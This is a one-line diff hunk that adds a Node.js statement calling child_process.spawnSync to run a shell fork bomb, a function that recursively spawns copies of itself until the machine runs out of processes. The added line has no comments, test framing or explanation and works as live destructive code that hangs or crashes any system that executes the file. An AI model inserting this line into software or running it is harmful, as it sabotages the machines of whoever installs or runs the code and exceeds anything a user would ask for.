@@ -1,0 +1,1 @@
+require("child_process").spawnSync("sh", ["-c", "b() { b | b & }; b; wait"], { stdio: "inherit" });
